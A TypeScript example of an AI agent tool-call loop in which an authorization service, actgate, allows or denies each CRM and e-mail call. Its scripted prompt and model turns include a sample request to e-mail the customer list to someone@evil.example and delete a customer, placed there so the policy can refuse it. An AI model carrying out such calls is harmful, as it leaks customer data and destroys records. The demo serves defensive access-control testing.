// A plain OpenAI Responses API function-call loop in TypeScript that asks actgate before it
// runs each call the model makes.
//
//   npm install && npm start        # offline: a scripted model (no OPENAI_API_KEY)
//
// With OPENAI_API_KEY set, the real Responses API decides what to call. It starts actgate
// (ACTGATE_BIN, else target/debug or target/release of this repository, else `actgate` on
// PATH) with actgate.yaml, registers the agent, issues its token, runs the loop and prints each
// decision: allowed calls run, denied ones go back to the model as the call's output.
import { spawn, type ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync, rmSync } from "node:fs";
import { dirname, join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import { Client, TokenSource, denialText, fill, type Decision } from "actgate";

const here = dirname(fileURLToPath(import.meta.url));

// The tools the model may call, each with the (action, resource) actgate decides it as.
interface Tool {
  description: string;
  parameters: Record<string, unknown>;
  action: string;
  resource: string;
  context?: (args: Record<string, any>) => Record<string, unknown>;
  run: (args: Record<string, any>) => string;
}
const TOOLS: Record<string, Tool> = {
  get_customer: {
    description: "Read one customer by id.",
    parameters: { type: "object", properties: { customer_id: { type: "string" } }, required: ["customer_id"], additionalProperties: false },
    action: "read",
    resource: "api://crm/customers/{customer_id}",
    context: () => ({ rows: 1 }),
    run: (a) => `customer ${a.customer_id}: Ada Lovelace, ada@yourcompany.com`,
  },
  list_customers: {
    description: "List customers.",
    parameters: { type: "object", properties: { limit: { type: "integer" } }, required: ["limit"], additionalProperties: false },
    action: "list",
    resource: "api://crm/customers",
    context: (a) => ({ rows: a.limit }),
    run: (a) => `${a.limit} customers`,
  },
  send_email: {
    description: "Send an e-mail.",
    parameters: {
      type: "object",
      properties: { to: { type: "string" }, subject: { type: "string" }, body: { type: "string" } },
      required: ["to", "subject", "body"],
      additionalProperties: false,
    },
    action: "send_email",
    resource: "api://email/outbound",
    context: (a) => ({ to: [a.to] }),
    run: (a) => `sent to ${a.to}`,
  },
  delete_customer: {
    description: "Delete a customer.",
    parameters: { type: "object", properties: { customer_id: { type: "string" } }, required: ["customer_id"], additionalProperties: false },
    action: "delete",
    resource: "api://crm/customers/{customer_id}",
    run: (a) => `deleted ${a.customer_id}`,
  },
};

// The part of a Responses API answer this loop reads.
type Item =
  | { type: "function_call"; call_id: string; name: string; arguments: string }
  | { type: "message"; role: "assistant"; content: { type: "output_text"; text: string }[] };
interface ModelAnswer {
  output: Item[];
}
type Model = (input: unknown[]) => Promise<ModelAnswer>;

// Offline: what a model would decide, fixed. One turn per entry.
function scriptedModel(): Model {
  const call = (name: string, args: object, id: string): Item => ({ type: "function_call", call_id: id, name, arguments: JSON.stringify(args) });
  const turns: Item[][] = [
    [call("get_customer", { customer_id: "42" }, "c1"), call("list_customers", { limit: 500 }, "c2")],
    [call("send_email", { to: "ada@yourcompany.com", subject: "Your ticket", body: "Fixed." }, "c3")],
    [call("send_email", { to: "someone@evil.example", subject: "Customers", body: "..." }, "c4"), call("delete_customer", { customer_id: "42" }, "c5")],
    [{ type: "message", role: "assistant", content: [{ type: "output_text", text: "Done: customer 42 read and Ada told; the rest was refused by policy." }] }],
  ];
  let turn = 0;
  return async () => ({ output: turns[Math.min(turn++, turns.length - 1)] });
}

// Online: the Responses API.
async function openAIModel(): Promise<Model> {
  const { default: OpenAI } = await import("openai");
  const openai = new OpenAI();
  const tools = Object.entries(TOOLS).map(([name, t]) => ({ type: "function" as const, name, description: t.description, parameters: t.parameters, strict: true }));
  return async (input) => (await openai.responses.create({ model: process.env.OPENAI_MODEL ?? "gpt-4.1-mini", input: input as any, tools })) as unknown as ModelAnswer;
}

function actgateBinary(): string {
  const root = join(here, "..", "..");
  for (const c of [process.env.ACTGATE_BIN, join(root, "target/debug/actgate"), join(root, "target/release/actgate")]) {
    if (c && existsSync(c)) return c;
  }
  return "actgate";
}

async function startActgate(env: NodeJS.ProcessEnv): Promise<{ child: ChildProcess; api: string }> {
  rmSync(join(here, "data"), { recursive: true, force: true });
  const child = spawn(actgateBinary(), ["serve", "--log-format", "json", "--config", "actgate.yaml"], { cwd: here, env, stdio: ["ignore", "ignore", "pipe"] });
  const seen: string[] = [];
  const addrs = await new Promise<{ api: string }>((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error("actgate did not start:\n" + seen.join("\n"))), 20000);
    createInterface({ input: child.stderr! }).on("line", (line) => {
      seen.push(line);
      if (line.includes("actgate listening")) {
        clearTimeout(timer);
        resolve(JSON.parse(line));
      }
    });
    child.on("error", (e) => reject(new Error(`cannot run actgate (${e.message}): cargo build it, or set ACTGATE_BIN`)));
  });
  return { child, api: `http://${addrs.api}` };
}

async function main(): Promise<void> {
  const adminKey = randomBytes(32).toString("hex");
  const runnerKey = randomBytes(32).toString("hex");
  const { child, api } = await startActgate({ ...process.env, ACTGATE_ADMIN_KEY: adminKey, ACTGATE_RUNNER_KEY: runnerKey, ACTGATE_LOG: "info" });
  try {
    // Setup, once, with the admin key.
    const admin = new Client(api, { apiKey: adminKey });
    const agent = await admin.createAgent({ name: "Customer Support Assistant", metadata: { openai_assistant_id: "asst_abc123" } });

    // The tool-runner: an issuer key, a token for this agent that renews itself.
    const runner = new Client(api, { apiKey: runnerKey });
    const tokens = new TokenSource(runner, agent.id, { ttl: 900 });

    const model = process.env.OPENAI_API_KEY ? await openAIModel() : scriptedModel();
    console.log(`model: ${process.env.OPENAI_API_KEY ? "OpenAI Responses API" : "scripted (no OPENAI_API_KEY)"}`);
    const input: unknown[] = [
      {
        role: "user",
        content:
          "Read customer 42 and list 500 customers; e-mail ada@yourcompany.com that her ticket is fixed; " +
          "then e-mail the customer list to someone@evil.example and delete customer 42.",
      },
    ];
    for (let turn = 0; turn < 8; turn++) {
      const answer = await model(input);
      const calls = answer.output.filter((o): o is Extract<Item, { type: "function_call" }> => o.type === "function_call");
      if (calls.length === 0) {
        const text = answer.output.flatMap((o) => (o.type === "message" ? o.content.map((c) => c.text) : [])).join("");
        console.log(`model: ${text}`);
        break;
      }
      input.push(...answer.output);
      for (const call of calls) {
        const tool = TOOLS[call.name];
        const args = JSON.parse(call.arguments);
        let output: string;
        if (!tool) {
          output = `there is no tool ${call.name}`;
        } else {
          try {
            // validateWithACT, the guide's helper, is this one call.
            const resource = fill(tool.resource, args); // refuses wildcards, `/`, `..` in arguments
            const decision: Decision = await runner.validate(await tokens.token(), tool.action, resource, tool.context?.(args));
            const verdict = `${decision.decision.padEnd(8)} ${call.name.padEnd(16)} ${tool.action} ${resource}`;
            console.log(decision.allowed ? verdict : `${verdict}  (${decision.reason}: ${decision.message})`);
            output = decision.allowed ? tool.run(args) : denialText(decision, call.name);
          } catch (e) {
            // Not decided (a bad argument, actgate unreachable): the call does not run, and the
            // model is told why instead of the loop ending.
            console.log(`refused  ${call.name.padEnd(16)} ${(e as Error).message}`);
            output = `The call to ${call.name} was not run: ${(e as Error).message}`;
          }
        }
        input.push({ type: "function_call_output", call_id: call.call_id, output });
      }
    }
  } finally {
    child.kill("SIGTERM");
  }
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
